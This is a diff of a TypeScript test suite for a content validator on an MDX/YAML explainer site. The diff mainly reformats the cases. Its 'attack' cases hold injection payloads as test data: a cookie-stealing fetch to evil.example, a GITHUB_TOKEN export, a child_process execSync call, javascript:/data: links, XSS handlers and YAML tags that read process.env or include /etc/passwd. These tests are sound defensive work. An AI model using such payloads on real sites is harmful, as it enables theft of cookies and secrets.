-    expected: [`${TOPIC}:1:1  topic "bridge" has no <StatusBox/>  (add <StatusBox/> after the introduction; every topic shows what is established and what is not)`],
+    expected: [
+      `${TOPIC}:1:1  topic "bridge" has no <StatusBox/>  (add <StatusBox/> after the introduction; every topic shows what is established and what is not)`,
+    ],
   },
   {
     name: 'a quotation of a sentence that does not exist',
     kind: 'malformed',
     apply: edit(TOPIC, '<Sentence id="s3"/>', '<Sentence id="s4"/>'),
-    expected: [`${TOPIC}:16:1  sentence "s4" does not exist; the article has sentences s1 to s3  (find the sentence id on the annotated article page (/article/))`],
+    expected: [
+      `${TOPIC}:16:1  sentence "s4" does not exist; the article has sentences s1 to s3  (find the sentence id on the annotated article page (/article/))`,
+    ],
   },
   {
     name: 'a badge for a source that does not exist',
     kind: 'malformed',
     apply: edit(TOPIC, '<Source id="council-minutes"/>', '<Source id="council-minutez"/>'),
-    expected: [`${TOPIC}:8:36  source "council-minutez" does not exist  (did you mean "council-minutes"? cite an id from sources.yaml, or add the source there)`],
+    expected: [
+      `${TOPIC}:8:36  source "council-minutez" does not exist  (did you mean "council-minutes"? cite an id from sources.yaml, or add the source there)`,
+    ],
   },
   {
     name: 'a card without an id',
     kind: 'malformed',
     apply: appendToTopic('<Claim/>'),
-    expected: [`${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`],
+    expected: [
+      `${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`,
+    ],
   },
   {
     name: 'an unclosed tag',
     kind: 'malformed',
     apply: appendToTopic('<strong>bold text'),
-    expected: [`${TOPIC}:20:1  MDX syntax error: Expected a closing tag for \`<strong>\` (20:1-20:9) before the end of \`paragraph\`  (check for an unclosed tag or a stray "<" or "{"; write "&lt;" for a literal "<")`],
+    expected: [
+      `${TOPIC}:20:1  MDX syntax error: Expected a closing tag for \`<strong>\` (20:1-20:9) before the end of \`paragraph\`  (check for an unclosed tag or a stray "<" or "{"; write "&lt;" for a literal "<")`,
+    ],
   },
   {
     name: 'a line indented one space too far',
     kind: 'malformed',
-    apply: edit(CLAIMS, '  topic: bridge\n  quote: The Riverside', '  topic: bridge\n   quote: The Riverside'),
-    expected: [`${CLAIMS}:2:10  YAML syntax error: Nested mappings are not allowed in compact mappings  (check the indentation and quoting on this line; wrap text containing ": " or "#" in quotes)`],
+    apply: edit(
+      CLAIMS,
+      '  topic: bridge\n  quote: The Riverside',
+      '  topic: bridge\n   quote: The Riverside',
+    ),
+    expected: [
+      `${CLAIMS}:2:10  YAML syntax error: Nested mappings are not allowed in compact mappings  (check the indentation and quoting on this line; wrap text containing ": " or "#" in quotes)`,
+    ],
   },
   {
     name: 'a key written twice',
     kind: 'malformed',
     apply: edit(CLAIMS, '  status: established', '  status: established\n  status: reported'),
-    expected: [`${CLAIMS}:6:3  YAML syntax error: Map keys must be unique  (check the indentation and quoting on this line; wrap text containing ": " or "#" in quotes)`],
+    expected: [
+      `${CLAIMS}:6:3  YAML syntax error: Map keys must be unique  (check the indentation and quoting on this line; wrap text containing ": " or "#" in quotes)`,
+    ],
   },
   {
     name: 'a glossary term citing a source that does not exist',
     kind: 'malformed',
-    apply: (copy) => copy.write('glossary.yaml', '- id: footbridge\n  term: footbridge\n  definition: A bridge for people on foot.\n  source: dictionary\n'),
-    expected: [`glossary.yaml:4:11  source "dictionary" does not exist  (cite an id from sources.yaml, or add the source there)`],
+    apply: (copy) =>
+      copy.write(
+        'glossary.yaml',
+        '- id: footbridge\n  term: footbridge\n  definition: A bridge for people on foot.\n  source: dictionary\n',
+      ),
+    expected: [
+      `glossary.yaml:4:11  source "dictionary" does not exist  (cite an id from sources.yaml, or add the source there)`,
+    ],
   },
   {
     name: 'a timeline event for a claim that does not exist',
     kind: 'malformed',
-    apply: (copy) => copy.write('timeline.yaml', '- id: vote\n  date: 2026-03-03\n  event: The council votes.\n  claim: council-approved\n'),
-    expected: [`timeline.yaml:4:10  claim "council-approved" does not exist  (use an id from claims/*.yaml, or add the claim there)`],
+    apply: (copy) =>
+      copy.write(
+        'timeline.yaml',
+        '- id: vote\n  date: 2026-03-03\n  event: The council votes.\n  claim: council-approved\n',
+      ),
+    expected: [
+      `timeline.yaml:4:10  claim "council-approved" does not exist  (use an id from claims/*.yaml, or add the claim there)`,
+    ],
   },
 
   // --- Attacks: MDX that would run code -------------------------------------------------------
@@ -465,129 +686,175 @@ export const cases: BadInput[] = [
     name: 'an import of a Node module',
     kind: 'attack',
     apply: appendToTopic("import fs from 'node:fs'"),
-    expected: [`${TOPIC}:20:1  import statements are not allowed in content  (remove it; the components Claim, ClaimRef, Source, Sentence and StatusBox are available without importing)`],
+    expected: [
+      `${TOPIC}:20:1  import statements are not allowed in content  (remove it; the components Claim, ClaimRef, Source, Sentence and StatusBox are available without importing)`,
+    ],
   },
   {
     name: 'an export that runs at build time',
     kind: 'attack',
-    apply: appendToTopic("export const secret = process.env.GITHUB_TOKEN"),
-    expected: [`${TOPIC}:20:1  export statements are not allowed in content  (remove it; the components Claim, ClaimRef, Source, Sentence and StatusBox are available without importing)`],
+    apply: appendToTopic('export const secret = process.env.GITHUB_TOKEN'),
+    expected: [
+      `${TOPIC}:20:1  export statements are not allowed in content  (remove it; the components Claim, ClaimRef, Source, Sentence and StatusBox are available without importing)`,
+    ],
   },
   {
     name: 'a block expression reading the environment',
     kind: 'attack',
     apply: appendToTopic('{process.env.GITHUB_TOKEN}'),
-    expected: [`${TOPIC}:20:1  JavaScript expressions in braces {…} are not allowed in content  (write plain text; to show a literal brace, write \\{)`],
+    expected: [
+      `${TOPIC}:20:1  JavaScript expressions in braces {…} are not allowed in content  (write plain text; to show a literal brace, write \\{)`,
+    ],
   },
   {
     name: 'an inline expression in prose',
     kind: 'attack',
     apply: appendToTopic('The answer is {globalThis.fetch("https://evil.example")}.'),
-    expected: [`${TOPIC}:20:15  JavaScript expressions in braces {…} are not allowed in content  (write plain text; to show a literal brace, write \\{)`],
+    expected: [
+      `${TOPIC}:20:15  JavaScript expressions in braces {…} are not allowed in content  (write plain text; to show a literal brace, write \\{)`,
+    ],
   },
   {
     name: 'an attribute written as an expression',
     kind: 'attack',
     apply: appendToTopic('<Claim id={require("child_process").execSync("id").toString()}/>'),
-    expected: [`${TOPIC}:20:1  <Claim> has an attribute written as an expression  (write attributes as plain strings: name="value")`, `${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`],
+    expected: [
+      `${TOPIC}:20:1  <Claim> has an attribute written as an expression  (write attributes as plain strings: name="value")`,
+      `${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`,
+    ],
   },
   {
     name: 'a spread attribute',
     kind: 'attack',
     apply: appendToTopic('<Claim {...globalThis}/>'),
-    expected: [`${TOPIC}:20:1  <Claim> has an attribute written as an expression  (write attributes as plain strings: name="value")`, `${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`],
+    expected: [
+      `${TOPIC}:20:1  <Claim> has an attribute written as an expression  (write attributes as plain strings: name="value")`,
+      `${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`,
+    ],
   },
-  ...(['script', 'style', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link'] as const).map(
-    (element): BadInput => ({
-      name: `a <${element}> element`,
-      kind: 'attack',
-      apply: appendToTopic(`<${element} />`),
-      expected: [`${TOPIC}:20:1  <${element}> is never allowed in content  (remove it; content cannot add scripts, styles, frames, forms or page metadata)`],
-    }),
-  ),
+  ...(
+    ['script', 'style', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link'] as const
+  ).map((element): BadInput => ({
+    name: `a <${element}> element`,
+    kind: 'attack',
+    apply: appendToTopic(`<${element} />`),
+    expected: [
+      `${TOPIC}:20:1  <${element}> is never allowed in content  (remove it; content cannot add scripts, styles, frames, forms or page metadata)`,
+    ],
+  })),
   {
     name: 'an event handler on an allowed component',
     kind: 'attack',
-    apply: appendToTopic('<Claim id="bridge-is-waste" onClick="fetch(`https://evil.example/?c=${document.cookie}`)"/>'),
-    expected: [`${TOPIC}:20:1  <Claim> has an event-handler attribute onClick  (remove it; content cannot run scripts)`],
+    apply: appendToTopic(
+      '<Claim id="bridge-is-waste" onClick="fetch(`https://evil.example/?c=${document.cookie}`)"/>',
+    ),
+    expected: [
+      `${TOPIC}:20:1  <Claim> has an event-handler attribute onClick  (remove it; content cannot run scripts)`,
+    ],
   },
   {
     name: 'an event handler on an allowed element, in lower case',
     kind: 'attack',
     apply: appendToTopic('<details onmouseover="alert(1)">x</details>'),
-    expected: [`${TOPIC}:20:1  <details> has an event-handler attribute onmouseover  (remove it; content cannot run scripts)`],
+    expected: [
+      `${TOPIC}:20:1  <details> has an event-handler attribute onmouseover  (remove it; content cannot run scripts)`,
+    ],
   },
   {
     name: 'an image with an error handler',
     kind: 'attack',
     apply: appendToTopic('<img src="x" onerror="alert(1)"/>'),
-    expected: [`${TOPIC}:20:1  <img> is not an allowed component or element  (use one of Claim, ClaimRef, Source, Sentence, StatusBox, abbr, b, br, cite, code, dd, del, details, dfn, dl, dt, em, figcaption, figure, i, ins, kbd, mark, q, s, small, span, strong, sub, summary, sup, time, u, or Markdown syntax)`],
+    expected: [
+      `${TOPIC}:20:1  <img> is not an allowed component or element  (use one of Claim, ClaimRef, Source, Sentence, StatusBox, abbr, b, br, cite, code, dd, del, details, dfn, dl, dt, em, figcaption, figure, i, ins, kbd, mark, q, s, small, span, strong, sub, summary, sup, time, u, or Markdown syntax)`,
+    ],
   },
   {
     name: 'a style attribute that loads a tracker',
     kind: 'attack',
     apply: appendToTopic('<span style="background:url(https://tracker.example/p.gif)">x</span>'),
-    expected: [`${TOPIC}:20:1  <span> does not take the attribute "style"  (allowed attributes are lang)`],
+    expected: [
+      `${TOPIC}:20:1  <span> does not take the attribute "style"  (allowed attributes are lang)`,
+    ],
   },
   {
     name: 'a javascript: link',
     kind: 'attack',
     apply: appendToTopic('[Read more](javascript:alert(document.cookie))'),
-    expected: [`${TOPIC}:20:1  link to "javascript:alert(document.cookie)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`],
+    expected: [
+      `${TOPIC}:20:1  link to "javascript:alert(document.cookie)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
+    ],
   },
   {
     name: 'a javascript: link in mixed case',
     kind: 'attack',
     apply: appendToTopic('[Read more](JaVaScRiPt:alert(1))'),
-    expected: [`${TOPIC}:20:1  link to "JaVaScRiPt:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`],
+    expected: [
+      `${TOPIC}:20:1  link to "JaVaScRiPt:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
+    ],
   },
   {
     name: 'a javascript: link split by whitespace',
     kind: 'attack',
     apply: appendToTopic('[Read more](<java\tscript:alert(1)>)'),
-    expected: [`${TOPIC}:20:1  link to "java\tscript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`],
+    expected: [
+      `${TOPIC}:20:1  link to "java\tscript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
+    ],
   },
   {
     name: 'a javascript: link hidden behind character references',
     kind: 'attack',
     apply: appendToTopic('[Read more](&#106;&#x61;vascript&#58;alert(1))'),
-    expected: [`${TOPIC}:20:1  link to "javascript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`],
+    expected: [
+      `${TOPIC}:20:1  link to "javascript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
+    ],
   },
   {
     name: 'a javascript: link in a reference definition',
     kind: 'attack',
     apply: appendToTopic('[Read more][x]\n\n[x]: javascript:alert(1)'),
-    expected: [`${TOPIC}:22:1  link to "javascript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`],
+    expected: [
+      `${TOPIC}:22:1  link to "javascript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
+    ],
   },
   {
     name: 'a vbscript: link',
     kind: 'attack',
     apply: appendToTopic('[Read more](vbscript:msgbox)'),
-    expected: [`${TOPIC}:20:1  link to "vbscript:msgbox" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`],
+    expected: [
+      `${TOPIC}:20:1  link to "vbscript:msgbox" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
+    ],
   },
   {
     name: 'a data: URL link',
     kind: 'attack',
     apply: appendToTopic('[Read more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
-    expected: [`${TOPIC}:20:1  link to "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`],
+    expected: [
+      `${TOPIC}:20:1  link to "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
+    ],
   },
   {
     name: 'a tracking pixel from another site',
     kind: 'attack',
     apply: appendToTopic('![](https://tracker.example/pixel.gif)'),
-    expected: [`${TOPIC}:20:1  image "https://tracker.example/pixel.gif" is loaded from another site  (put the image in public/ and link to it by path; remote images can track readers)`],
+    expected: [
+      `${TOPIC}:20:1  image "https://tracker.example/pixel.gif" is loaded from another site  (put the image in public/ and link to it by path; remote images can track readers)`,
+    ],
   },
   {
     name: 'an unknown component',
     kind: 'attack',
     apply: appendToTopic('<Analytics id="UA-1"/>'),
-    expected: [`${TOPIC}:20:1  <Analytics> is not an allowed component or element  (use one of Claim, ClaimRef, Source, Sentence, StatusBox, abbr, b, br, cite, code, dd, del, details, dfn, dl, dt, em, figcaption, figure, i, ins, kbd, mark, q, s, small, span, strong, sub, summary, sup, time, u, or Markdown syntax)`],
+    expected: [
+      `${TOPIC}:20:1  <Analytics> is not an allowed component or element  (use one of Claim, ClaimRef, Source, Sentence, StatusBox, abbr, b, br, cite, code, dd, del, details, dfn, dl, dt, em, figcaption, figure, i, ins, kbd, mark, q, s, small, span, strong, sub, summary, sup, time, u, or Markdown syntax)`,
+    ],
   },
   {
     name: 'an SVG with a load handler',
     kind: 'attack',
     apply: appendToTopic('<svg onload="alert(1)"/>'),
-    expected: [`${TOPIC}:20:1  <svg> is never allowed in content  (remove it; content cannot add scripts, styles, frames, forms or page metadata)`],
+    expected: [
+      `${TOPIC}:20:1  <svg> is never allowed in content  (remove it; content cannot add scripts, styles, frames, forms or page metadata)`,
+    ],
   },
 
   // --- Attacks: YAML that would run code or exhaust the build -------------------------------
@@ -604,32 +871,48 @@ export const cases: BadInput[] = [
       copy.write('glossary.yaml', `${levels.join('\n')}\n`);
     },
     expected: Array.from({ length: 8 }, (_, i) => i + 2).flatMap((line) =>
-      Array.from({ length: 9 }, (_, k) => `glossary.yaml:${line}:${8 + k * 3}  YAML aliases (*name) are not allowed in content  (write the value out in full)`),
+      Array.from(
+        { length: 9 },
+        (_, k) =>
+          `glossary.yaml:${line}:${8 + k * 3}  YAML aliases (*name) are not allowed in content  (write the value out in full)`,
+      ),
     ),
   },
   {
     name: 'a tag asking for a JavaScript function',
     kind: 'attack',
-    apply: edit(EXPLAINER, 'title: Riverside footbridge explained', 'title: !!js/function "function () { return process.env }"'),
-    expected: [`${EXPLAINER}:2:8  YAML tag !!js/function is not allowed in content  (remove the tag; write plain text, numbers, lists and mappings only)`],
+    apply: edit(
+      EXPLAINER,
+      'title: Riverside footbridge explained',
+      'title: !!js/function "function () { return process.env }"',
+    ),
+    expected: [
+      `${EXPLAINER}:2:8  YAML tag !!js/function is not allowed in content  (remove the tag; write plain text, numbers, lists and mappings only)`,
+    ],
   },
   {
     name: 'a custom tag asking to include a file',
     kind: 'attack',
     apply: edit(EXPLAINER, 'title: Riverside footbridge explained', 'title: !include /etc/passwd'),
-    expected: [`${EXPLAINER}:2:8  YAML tag !include is not allowed in content  (remove the tag; write plain text, numbers, lists and mappings only)`],
+    expected: [
+      `${EXPLAINER}:2:8  YAML tag !include is not allowed in content  (remove the tag; write plain text, numbers, lists and mappings only)`,
+    ],
   },
   {
     name: 'YAML nested deep enough to exhaust the parser',
     kind: 'attack',
     apply: (copy) => copy.write('glossary.yaml', `${'['.repeat(40)}${']'.repeat(40)}\n`),
-    expected: [`glossary.yaml:1:13  the YAML is nested more than 12 levels deep  (flatten the structure; no content field nests this deep)`],
+    expected: [
+      `glossary.yaml:1:13  the YAML is nested more than 12 levels deep  (flatten the structure; no content field nests this deep)`,
+    ],
   },
   {
     name: 'a source registry too large to read',
     kind: 'attack',
     apply: (copy) => copy.write(SOURCES, `${copy.read(SOURCES)}# ${'x'.repeat(1024 * 1024)}\n`),
-    expected: [`${SOURCES}:1:1  the file is 1048977 bytes; content files may be at most 1048576 bytes  (split it into smaller files)`],
+    expected: [
+      `${SOURCES}:1:1  the file is 1048977 bytes; content files may be at most 1048576 bytes  (split it into smaller files)`,
+    ],
   },
   // --- The map (content/map.yaml) ---------------------------------------------------------------
   ...mapCases,
